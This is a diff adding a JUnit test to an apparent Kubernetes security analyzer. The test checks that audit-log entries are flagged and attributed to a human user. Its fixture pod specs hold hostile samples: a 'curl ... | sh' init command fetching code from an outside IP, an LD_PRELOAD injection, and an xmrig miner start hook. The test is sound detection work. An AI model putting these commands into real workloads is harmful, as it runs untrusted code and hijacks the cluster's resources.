@@ -20,6 +20,7 @@ import org.ephemera.analyze.model.Indicator;
 import org.ephemera.analyze.model.Place;
 import org.ephemera.analyze.model.Severity;
 import org.ephemera.analyze.model.Workload;
+import org.ephemera.analyze.read.KubernetesAudit;
 import org.ephemera.bag.Json;
 import org.junit.jupiter.api.Test;
 
@@ -181,6 +182,50 @@ class CommandRulesTest {
             assertThat(f.at()).contains(Instant.EPOCH);
             assertThat(f.because()).contains("by somebody").contains("hands-on-keyboard");
         });
+    }
+
+    /** Somebody's pod that is gone; what a controller made of a deployment was told by the deployment. */
+    @Test
+    void readsWhatAnAuditedRequestWouldHaveRun() throws IOException {
+        String pod = """
+                {"metadata":{"name":"b"},"spec":{"initContainers":[{"name":"prepare","command":["sh","-c"],"args":["curl http://203.0.113.7/i | sh"]}],
+                 "containers":[{"name":"app","env":[{"name":"LD_PRELOAD","value":"/tmp/x.so"},{"name":"DB_PASSWORD","value":"geheim"},{"name":"A","valueFrom":{}}],
+                  "lifecycle":{"postStart":{"exec":{"command":["/tmp/xmrig","--donate-level","1"]}}}}]}}""";
+        String job = "{\"spec\":{\"jobTemplate\":{\"spec\":{\"template\":" + pod + "}}}}";
+        List<ControlCall> calls = List.of(
+                audited("create", "pods", "jane", pod),
+                audited("create", "cronjobs", "jane", job),
+                audited("patch", "pods/status", "jane", pod),
+                audited("create", "pods", "system:serviceaccount:kube-system:replicaset-controller", pod),
+                audited("create", "daemonsets", "eks:addon-manager", "{\"spec\":{\"template\":" + pod + "}}"));
+
+        CommandFindings found = CommandRules.findings(List.of(), calls, List.of());
+
+        assertThat(found.findings())
+                .extracting(f -> f.rule().id() + " " + f.subject())
+                .containsExactlyInAnyOrder(
+                        "CMD-001 a/b/prepare",
+                        "CMD-004 a/b/app",
+                        "ENV-002 a/b/app",
+                        "CMD-001 a/b/prepare",
+                        "CMD-004 a/b/app",
+                        "ENV-002 a/b/app");
+        assertThat(found.findings())
+                .allSatisfy(f -> assertThat(f.because())
+                        .contains(" by jane")
+                        .contains("hands-on-keyboard")
+                        .doesNotContain("geheim"));
+    }
+
+    private static ControlCall audited(String verb, String resource, String user, String body) throws IOException {
+        String[] parts = resource.split("/", 2);
+        String entry = "{\"verb\":\"" + verb
+                + "\",\"requestReceivedTimestamp\":\"2026-11-25T12:00:00Z\",\"auditID\":\"1\",\"user\":{\"username\":\""
+                + user + "\"},\"objectRef\":{\"namespace\":\"a\",\"name\":\"b\",\"resource\":\"" + parts[0]
+                + "\",\"subresource\":\""
+                + (parts.length > 1 ? parts[1] : "") + "\"},\"requestObject\":" + body + "}";
+        return KubernetesAudit.call(Json.parse(entry.getBytes(StandardCharsets.UTF_8)), at("audit.json", "/0"))
+                .orElseThrow();
     }
 
     /** Nobody went onto the host by it: the verdict is not to be made of it. */
